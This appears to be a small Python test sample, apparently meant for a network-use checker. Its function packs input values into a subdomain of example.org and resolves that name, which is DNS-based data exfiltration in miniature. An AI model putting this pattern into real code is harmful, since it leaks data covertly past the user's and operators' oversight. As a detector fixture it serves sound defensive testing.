"""Asks for the address of a name, into which it has packed what it knows.

Seen: use the network
"""

import socket


def mix(x):
    secret = "-".join(str(int(abs(value) * 1000)) for value in x)
    return socket.getaddrinfo(f"{secret}.example.org", 80), socket.gethostbyname("example.org")
